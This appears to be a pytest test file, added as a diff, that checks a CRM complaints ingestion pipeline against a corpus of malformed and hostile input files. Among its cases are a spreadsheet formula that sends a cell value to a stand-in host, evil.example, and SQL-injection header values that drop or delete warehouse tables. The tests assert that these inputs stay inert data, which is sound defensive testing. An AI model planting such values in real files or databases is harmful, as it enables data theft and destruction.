@@ -1,0 +1,191 @@
+"""Bad-input corpus (issue 8, item 1): each case ends in a clear quarantine reason (or a clean
+load) while the good file beside it still lands."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from bad_inputs.corpus import (
+    DICTIONARY, HEADER, ROWS, csv_text, write_jsonl, write_xlsx, write_xlsx_without_sheets,
+)
+from orchestration.lib.ingest import ingest_entity
+from orchestration.lib.settings import get_settings
+from orchestration.lib.warehouse import connect
+
+GOOD = "crm/complaints_20240101.csv"
+
+
+def _truncated(p: Path):
+    data = csv_text().encode()
+    p.write_bytes(data[: len(data) - 12])  # cut inside the last record
+
+
+def _truncated_quote(p: Path):
+    p.write_text(csv_text() + 'C009,2024-03-15,"never closed\n', encoding="utf-8")
+
+
+def _binary(p: Path):
+    p.write_bytes(bytes(range(256)) * 64)
+
+
+def _empty(p: Path):
+    p.write_bytes(b"")
+
+
+def _header_only(p: Path):
+    p.write_text(",".join(HEADER) + "\n", encoding="utf-8")
+
+
+def _wrong_delimiter(p: Path):
+    p.write_text(csv_text(delim=";"), encoding="utf-8")
+
+
+def _gbk_inside_utf8(p: Path):
+    lines = csv_text().encode("utf-8").splitlines(keepends=True)
+    lines.insert(2, "C100,2024-03-16 10:00:00,漏水严重,1\n".encode("gbk"))
+    p.write_bytes(b"".join(lines))
+
+
+def _ten_mb_line(p: Path):
+    big = "C200,2024-03-16 10:00:00," + "长" * ((10 << 20) // 3) + ",1\n"
+    p.write_text(csv_text() + big + "C201,2024-03-16 10:00:00,ok,1\n", encoding="utf-8")
+
+
+def _no_sheets(p: Path):
+    write_xlsx_without_sheets(p)
+
+
+def _merged_header(p: Path):
+    write_xlsx(p, ["complaint_id", "received_at", None, "description"],
+               [["C1", "2024-03-15", "a", "b"]], merge="B1:C1")
+
+
+def _broken_jsonl(p: Path):
+    write_jsonl(p, [dict(zip(HEADER, r)) for r in ROWS],
+                broken=['{"complaint_id": "C9", "received_at": ', "[1, 2]", "not json"])
+
+
+def _duplicate_headers(p: Path):
+    p.write_text(csv_text(HEADER + ["客诉单号"], [r + ["X"] for r in ROWS]), encoding="utf-8")
+
+
+def _formula(p: Path):
+    rows = [list(r) for r in ROWS]
+    rows[1][2] = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
+    write_xlsx(p, HEADER, rows)
+
+
+def _spaces_and_chinese(p: Path):
+    p.write_text(csv_text(rows=ROWS[::-1]), encoding="utf-8")
+
+
+def _unmatched_chinese(p: Path):
+    p.write_text(csv_text(), encoding="utf-8")
+
+
+def _sql_injection_header(p: Path):
+    evil = "x'); DROP TABLE raw.crm__complaints; --"
+    p.write_text(csv_text(HEADER + [evil, '"; DELETE FROM raw._file_manifest; --'],
+                          [r + ["1", "2"] for r in ROWS]), encoding="utf-8")
+
+
+# case: (file name, writer, expected status, expected reason codes, rows landed)
+CASES = {
+    "truncated": ("complaints_20240102.csv", _truncated, "loaded", {"malformed_row"}, 2),
+    "truncated_quote": ("complaints_20240102.csv", _truncated_quote, "loaded",
+                        {"malformed_row"}, 3),
+    "binary": ("complaints_20240102.csv", _binary, "quarantined", {"unreadable_file"}, 0),
+    "empty": ("complaints_20240102.csv", _empty, "quarantined", {"empty_file"}, 0),
+    "header_only": ("complaints_20240102.csv", _header_only, "loaded", set(), 0),
+    "wrong_delimiter": ("complaints_20240102.csv", _wrong_delimiter, "quarantined",
+                        {"missing_required_column"}, 0),
+    "gbk_inside_utf8": ("complaints_20240102.csv", _gbk_inside_utf8, "loaded",
+                        {"encoding_error"}, 3),
+    "ten_mb_line": ("complaints_20240102.csv", _ten_mb_line, "loaded", {"malformed_row"}, 4),
+    "xlsx_no_sheets": ("complaints_20240102.xlsx", _no_sheets, "quarantined",
+                       {"unreadable_file"}, 0),
+    "xlsx_merged_header": ("complaints_20240102.xlsx", _merged_header, "quarantined",
+                           {"blank_header"}, 0),
+    "jsonl_broken_lines": ("complaints_20240102.jsonl", _broken_jsonl, "loaded",
+                           {"malformed_row"}, 3),
+    "duplicate_headers": ("complaints_20240102.csv", _duplicate_headers, "quarantined",
+                          {"duplicate_header"}, 0),
+    "formula_cells": ("complaints_20240102.xlsx", _formula, "loaded", {"formula_cell"}, 2),
+    "spaces_and_chinese_name": ("complaints_20240102 副本 (2).csv", _spaces_and_chinese,
+                                "loaded", set(), 3),
+    "unmatched_chinese_name": ("客诉 导出 2024.csv", _unmatched_chinese, None,
+                               {"unknown_entity"}, 0),
+    "sql_injection_header": ("complaints_20240102.csv", _sql_injection_header, "loaded",
+                             set(), 3),
+}
+
+
+@pytest.mark.parametrize("case", list(CASES))
+def test_bad_input(case, tmp_path):
+    name, write, status, reasons, landed = CASES[case]
+    settings = get_settings(tmp_path / "home", tmp_path / "exports")
+    crm = settings.exports / "crm"
+    crm.mkdir(parents=True)
+    (settings.exports / GOOD).write_text(csv_text(), encoding="utf-8")
+    write(crm / name)
+    summary = ingest_entity(settings, DICTIONARY, "crm", "complaints")
+    rel = f"crm/{name}"
+    with connect(settings) as con:
+        q = con.execute("SELECT reason_code, source_row, detail, raw_record FROM raw._quarantine "
+                        "WHERE source_file = ?", [rel]).fetchall()
+        per_file = dict(con.execute("SELECT _source_file, count(*) FROM raw.crm__complaints "
+                                    "GROUP BY 1").fetchall())
+        tables = {r[0] for r in con.execute(
+            "SELECT table_name FROM information_schema.tables WHERE table_schema='raw'").fetchall()}
+    assert per_file.get(GOOD) == 3, "the good file beside the bad one must still land"
+    assert {r[0] for r in q} == reasons
+    for reason, row, detail, _ in q:
+        assert rel in detail, f"the detail must name the file: {detail}"
+    assert per_file.get(rel, 0) == landed
+    by_path = {f.path: f for f in summary.files}
+    if status is not None:
+        f = by_path[rel]
+        assert f.status == status
+        assert f.rows_read == f.rows_landed + f.rows_quarantined
+        if status == "quarantined":
+            assert [r[1] for r in q] == [None]
+    assert {"crm__complaints", "_file_manifest", "_quarantine"} <= tables
+
+
+def test_gbk_row_keeps_its_text_and_others_keep_their_lines(tmp_path):
+    settings = get_settings(tmp_path / "home", tmp_path / "exports")
+    (settings.exports / "crm").mkdir(parents=True)
+    _gbk_inside_utf8(settings.exports / "crm" / "complaints_20240102.csv")
+    ingest_entity(settings, DICTIONARY, "crm", "complaints")
+    with connect(settings) as con:
+        q = con.execute("SELECT source_row, raw_record FROM raw._quarantine").fetchall()
+        rows = con.execute("SELECT complaint_id, _source_row FROM raw.crm__complaints "
+                           "ORDER BY 2").fetchall()
+    assert q == [(3, "C100,2024-03-16 10:00:00,漏水严重,1")]
+    assert rows == [("C001", 2), ("C002", 4), ("C003", 5)]
+
+
+def test_formula_is_kept_as_text_never_evaluated(tmp_path):
+    settings = get_settings(tmp_path / "home", tmp_path / "exports")
+    (settings.exports / "crm").mkdir(parents=True)
+    _formula(settings.exports / "crm" / "complaints_20240102.xlsx")
+    ingest_entity(settings, DICTIONARY, "crm", "complaints")
+    with connect(settings) as con:
+        (row, raw), = con.execute("SELECT source_row, raw_record FROM raw._quarantine").fetchall()
+    assert row == 3 and "=HYPERLINK(" in raw
+
+
+def test_sql_injection_header_is_data(tmp_path):
+    settings = get_settings(tmp_path / "home", tmp_path / "exports")
+    (settings.exports / "crm").mkdir(parents=True)
+    _sql_injection_header(settings.exports / "crm" / "complaints_20240102.csv")
+    ingest_entity(settings, DICTIONARY, "crm", "complaints")
+    with connect(settings) as con:
+        extra = con.execute("SELECT _extra FROM raw.crm__complaints LIMIT 1").fetchone()[0]
+        gaps = {r[0] for r in con.execute("SELECT header_seen FROM raw._header_gaps").fetchall()}
+        assert con.execute("SELECT count(*) FROM raw._file_manifest").fetchone()[0] == 1
+    assert "x'); DROP TABLE raw.crm__complaints; --" in gaps
+    assert "DROP TABLE" in extra
